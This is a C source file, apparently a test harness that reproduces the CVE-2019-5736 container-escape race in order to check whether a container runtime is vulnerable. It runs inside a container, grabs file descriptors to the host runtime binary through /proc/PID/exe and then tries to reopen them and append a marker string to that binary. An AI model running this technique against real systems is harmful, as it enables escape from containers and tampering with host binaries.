/* The attacker of CVE-2019-5736, run inside a container (static, no libc
 * of the image needed).
 *
 *   exe_race DEV INO STOPFILE RESULTFILE
 *
 * Spins on the pids the container's pid namespace hands out next (from
 * /proc/sys/kernel/ns_last_pid) and on every process whose comm is "crt":
 * for each, it tries to open /proc/PID/exe (and counts it as a hit when
 * that is the file DEV:INO, the host's crt binary), /proc/PID/environ,
 * /proc/PID/mem and /proc/PID/fd. Every fd of the host binary it gets is
 * kept; once STOPFILE exists it tries to reopen each for writing through
 * /proc/self/fd/N (what the real exploit does after runc exits) and to
 * append to it. Then it writes one line of counts to RESULTFILE:
 *
 *   tries=N crt_seen=N exe_hits=N environ=N mem=N fd=N reopened=N appended=N
 *
 * A runtime whose pre-exec processes are dumpable gives exe_hits > 0. */
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 64

static unsigned long long tries, crt_seen, exe_hits, environ_ok, mem_ok, fd_ok;
static int held[MAX_HELD];
static int n_held;

static int
read_small (const char *path, char *buf, size_t len)
{
  int fd = open (path, O_RDONLY | O_CLOEXEC);
  ssize_t n;

  if (fd < 0)
    return -1;
  n = read (fd, buf, len - 1);
  close (fd);
  if (n < 0)
    return -1;
  buf[n] = '\0';
  return 0;
}

static void
try_pid (long pid, dev_t dev, ino_t ino)
{
  char path[64], comm[64];
  struct stat st;
  int fd;

  snprintf (path, sizeof (path), "/proc/%ld/comm", pid);
  if (read_small (path, comm, sizeof (comm)) < 0)
    return;
  tries++;
  if (strcmp (comm, "crt\n") != 0)
    return;
  crt_seen++;

  snprintf (path, sizeof (path), "/proc/%ld/exe", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      if (fstat (fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
        {
          exe_hits++;
          if (n_held < MAX_HELD)
            {
              held[n_held++] = fd;
              fd = -1;
            }
        }
      if (fd >= 0)
        close (fd);
    }
  /* These only count while the process still is the host's crt: once
   * execve has swapped in the user's program (comm changes a moment
   * later), its environ is the container's own business. */
  {
    int env_fd, mem_fd;
    DIR *fd_dir;
    bool got_env = false, got_mem = false, got_fd = false;

    snprintf (path, sizeof (path), "/proc/%ld/environ", pid);
    if ((env_fd = open (path, O_RDONLY | O_CLOEXEC)) >= 0)
      {
        char c;
        got_env = read (env_fd, &c, 1) >= 0;
        close (env_fd);
      }
    snprintf (path, sizeof (path), "/proc/%ld/mem", pid);
    if ((mem_fd = open (path, O_RDONLY | O_CLOEXEC)) >= 0)
      {
        got_mem = true;
        close (mem_fd);
      }
    snprintf (path, sizeof (path), "/proc/%ld/fd", pid);
    if ((fd_dir = opendir (path)) != NULL)
      {
        got_fd = readdir (fd_dir) != NULL;
        closedir (fd_dir);
      }
    snprintf (path, sizeof (path), "/proc/%ld/exe", pid);
    if ((got_env || got_mem || got_fd) && stat (path, &st) == 0 && st.st_dev == dev
        && st.st_ino == ino)
      {
        environ_ok += got_env;
        mem_ok += got_mem;
        fd_ok += got_fd;
      }
  }
}

/* Every process of the namespace whose comm is crt: the init waiting
 * for `start` stays for as long as it waits. */
static void
scan_all (dev_t dev, ino_t ino)
{
  DIR *d = opendir ("/proc");
  struct dirent *de;

  if (d == NULL)
    return;
  while ((de = readdir (d)) != NULL)
    {
      char *end;
      long pid = strtol (de->d_name, &end, 10);
      if (*end == '\0' && pid > 1 && pid != getpid ())
        try_pid (pid, dev, ino);
    }
  closedir (d);
}

int
main (int argc, char **argv)
{
  unsigned long long reopened = 0, appended = 0;
  unsigned long round = 0;
  dev_t dev;
  ino_t ino;
  FILE *out;

  if (argc != 5)
    {
      fprintf (stderr, "usage: exe_race DEV INO STOPFILE RESULTFILE\n");
      return 2;
    }
  dev = (dev_t) strtoull (argv[1], NULL, 10);
  ino = (ino_t) strtoull (argv[2], NULL, 10);
  while (access (argv[3], F_OK) != 0)
    {
      char buf[32];
      long last;

      if (read_small ("/proc/sys/kernel/ns_last_pid", buf, sizeof (buf)) == 0)
        {
          last = strtol (buf, NULL, 10);
          for (long p = last - 1; p <= last + 3; p++)
            if (p > 1 && p != getpid ())
              try_pid (p, dev, ino);
        }
      if (++round % 256 == 0)
        scan_all (dev, ino);
    }

  for (int i = 0; i < n_held; i++)
    {
      char path[64];
      int w;

      snprintf (path, sizeof (path), "/proc/self/fd/%d", held[i]);
      w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0)
        continue;
      reopened++;
      if (write (w, "PWNED-BY-CONTAINER\n", 19) == 19)
        appended++;
      close (w);
    }

  out = fopen (argv[4], "w");
  if (out == NULL)
    return 1;
  fprintf (out,
           "tries=%llu crt_seen=%llu exe_hits=%llu environ=%llu mem=%llu fd=%llu "
           "reopened=%llu appended=%llu\n",
           tries, crt_seen, exe_hits, environ_ok, mem_ok, fd_ok, reopened, appended);
  fclose (out);
  return 0;
}
